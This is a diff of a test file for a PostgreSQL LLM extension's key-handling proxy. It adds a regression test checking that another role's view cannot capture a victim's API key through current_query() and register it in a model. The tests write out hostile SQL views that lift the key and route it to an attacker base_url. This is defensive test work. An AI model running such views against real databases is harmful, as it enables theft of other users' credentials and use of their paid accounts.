@@ -207,9 +207,26 @@ describe('a secret the session handed the proxy', () => {
                          WHERE (pg_llm_add_model(false, 'openai', 'stolen', ${stolen}, '{"base_url": "${attacker.baseUrl}"}') IS NULL) IS NOT NULL`);
     await expect(victim.query(`SELECT ai.openai_embed('m', body, api_key => '${VICTIM_KEY}', client_config => '{"base_url": "${suite.fake.baseUrl}"}') FROM shared.docs`)).rejects.toMatchObject({
       code: '42501',
-      message: expect.stringContaining("this model's server was chosen elsewhere"),
+      message: 'the api_key argument of pg_llm_add_model is a secret this session wrote out in a call of another function',
     });
     expect(attacker.requests).toEqual([]);
     expect((await direct.query(`SELECT count(*)::int AS n FROM _pg_llm_catalog.pg_llm_models WHERE instance_name = 'stolen'`)).rows).toEqual([{ n: 0 }]);
+  });
+
+  // Review31: registered for the very server the victim named, the key went nowhere else, but stayed in a model any
+  // role may call, so the view's owner asked that server on the victim's account for as long as it liked.
+  it("written out in the victim's statement is not registered into a model by another role's view, even for the victim's server", async () => {
+    const { direct, other, victim } = await sharedSchema();
+    const stolen = `substring(current_query() from 'held by pg_llm proxy [0-9a-f]{32}')`;
+    // Past the proxy, which refuses a view computing an api_key from constants.
+    await direct.query(`SET ROLE trust_user; CREATE VIEW shared.docs AS SELECT 'hello'::text AS body
+                         WHERE (pg_llm_add_model(false, 'openai', 'borrowed', ${stolen}, '{"base_url": "${suite.fake.baseUrl}", "model_name": "m"}') IS NULL) IS NOT NULL;
+                        GRANT SELECT ON shared.docs TO PUBLIC; RESET ROLE`);
+    const attempt = victim.query(`SELECT ai.openai_embed('m', body, api_key => '${VICTIM_KEY}', client_config => '{"base_url": "${suite.fake.baseUrl}"}') FROM shared.docs`);
+    await expect(attempt).rejects.toMatchObject({ code: '42501', message: 'the api_key argument of pg_llm_add_model is a secret this session wrote out in a call of another function' });
+    suite.fake.requests.length = 0;
+    await other.query(`SELECT pg_llm_chat('borrowed', 'on the victim''s account')`).catch(() => undefined);
+    expect(authorizations()).not.toContain(`Bearer ${VICTIM_KEY}`);
+    expect((await other.query(`SELECT count(*)::int AS n FROM _pg_llm_catalog.pg_llm_models WHERE instance_name = 'borrowed'`)).rows).toEqual([{ n: 0 }]);
   });
 });
